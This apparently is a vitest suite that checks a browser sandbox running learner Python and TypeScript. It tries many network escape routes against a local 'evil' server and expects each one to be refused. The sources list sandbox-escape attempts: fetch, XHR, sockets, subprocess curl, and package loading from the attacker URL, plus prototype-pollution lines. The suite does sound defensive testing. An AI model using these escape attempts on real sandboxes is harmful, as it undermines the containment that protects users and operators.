/** The real runtimes in the real sandbox: what learner code of either language can do to it. */
import { describe, expect, test } from "vitest";
import { withHarness } from "../browser/harness/stage.ts";
import { madeOnce } from "../browser/made-once.ts";
import type { Language } from "../../src/trace/event.ts";
import { expectNextRunSaysHello } from "./both-languages.ts";
import { startEvilServer } from "./evil-server.ts";
import { networkAttacks } from "./network-attacks.ts";

const stage = withHarness();
const driver = madeOnce(
  async () => stage.open(await stage.site.withRuntimes()),
  (opened) => opened.close(),
);
const evil = madeOnce(startEvilServer, (server) => server.close());

const expectHello = (language: Language): Promise<void> => expectNextRunSaysHello(driver(), language);

describe.each(["python", "typescript"] as const)("%s", (language) => {
  test("runs, from files that were checked", async () => {
    await driver().prepare(language);
    await expectHello(language);
  });
});

/** Each prints `REACHED` when it gets an answer. Modules that are not there count as refused. */
const pythonAttacks = (evilUrl: string, port: number): string => `
def attempt(attack):
    try:
        attack()
        print("REACHED", attack.__name__)
    except BaseException as error:
        print("refused", attack.__name__, type(error).__name__)

def js_fetch():
    import js
    js.fetch("${evilUrl}/js-fetch")

def js_xhr():
    import js
    request = js.XMLHttpRequest.new()
    request.open("GET", "${evilUrl}/js-xhr", False)
    request.send()

def js_eval():
    from pyodide.code import run_js
    run_js("fetch('${evilUrl}/run-js')")

def pyfetch():
    from pyodide.http import pyfetch
    pyfetch("${evilUrl}/pyfetch").send(None)

def open_url():
    from pyodide.http import open_url
    open_url("${evilUrl}/open-url")

def urllib():
    from urllib.request import urlopen
    urlopen("${evilUrl}/urllib", timeout=1).read()

def http_client():
    from http.client import HTTPConnection
    connection = HTTPConnection("127.0.0.1", ${port}, timeout=1)
    connection.request("GET", "/http-client")
    connection.getresponse()

def sockets():
    import socket
    with socket.create_connection(("127.0.0.1", ${port}), timeout=1) as connection:
        connection.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
        assert connection.recv(10)

def udp():
    import socket
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${port}))
    assert False

def streams():
    import asyncio
    async def main():
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", ${port}), 1)
    asyncio.run(main())

def subprocess():
    import subprocess
    subprocess.run(["curl", "${evilUrl}/curl"], check=True)

def loaded_modules():
    import sys
    module = next(m for name, m in list(sys.modules.items()) if hasattr(m, "XMLHttpRequest"))
    request = module.XMLHttpRequest.new()
    request.open("GET", "${evilUrl}/sys-modules", False)
    request.send()

def package_install():
    import pyodide_js
    pyodide_js.loadPackage("${evilUrl}/package.whl")

def micropip():
    import micropip
    micropip.install("${evilUrl}/package.whl").send(None)

for attack in (js_fetch, js_xhr, js_eval, pyfetch, open_url, urllib, http_client, sockets, udp, streams, subprocess,
               loaded_modules, package_install, micropip):
    attempt(attack)
print("tried all")
`;

describe("network", () => {
  test("Python reaches nobody", async () => {
    evil().hits.length = 0;
    const { output } = await driver().run("python", pythonAttacks(`http://127.0.0.1:${evil().port}`, evil().port));
    await driver().page.waitForTimeout(500);
    expect(output).toContain("tried all");
    expect(output.split("\n").filter((line) => line.startsWith("REACHED"))).toEqual([]);
    expect(evil().hits).toEqual([]);
  });

  test("TypeScript reaches nobody, also through what it can find beside its own names", async () => {
    evil().hits.length = 0;
    stage.site.requests.length = 0;
    // Timers are virtual here, so that "nothing came of it" comes at once; what is on its way is waited for below.
    const source = `
      const say = (text: unknown) => console.log(String(text));
      const found = (0, eval)("globalThis");
      for (const name of ["fetch", "WebSocket", "XMLHttpRequest", "Worker", "importScripts", "postMessage"]) {
        try { say(name + " " + typeof new found[name]("http://127.0.0.1:${evil().port}/" + name)); } catch (error) { say(name + " refused"); }
      }
      new Function("say", ${JSON.stringify(`return (async () => { ${networkAttacks(evil().port, stage.site.url)} })()`)})(say);
      console.log("tried all");`;
    const { output } = await driver().run("typescript", source);
    await driver().page.waitForTimeout(500);
    // The provider's address is answered by the mock model, inside the worker.
    const through = output.split("\n").filter((line) => line.includes("GOT THROUGH"));
    expect(through.filter((line) => !line.startsWith("fetch provider"))).toEqual([]);
    expect(output).toContain("eval'd import");
    expect(evil().hits).toEqual([]);
    expect(stage.site.requests.filter((url) => url.includes("from-worker"))).toEqual([]);
    await expectHello("typescript");
  });
});

describe("pollution", () => {
  test("a worker is never used twice", async () => {
    await driver().run("python", `import builtins\nbuiltins.print = None`);
    await expectHello("python");
    await driver().run(
      "typescript",
      `Array.prototype.push = () => 0; Object.prototype.toString = () => "x"; console.log = () => {};`,
      { limits: { wallMs: 1_000 } },
    );
    await expectHello("typescript");
  });
});
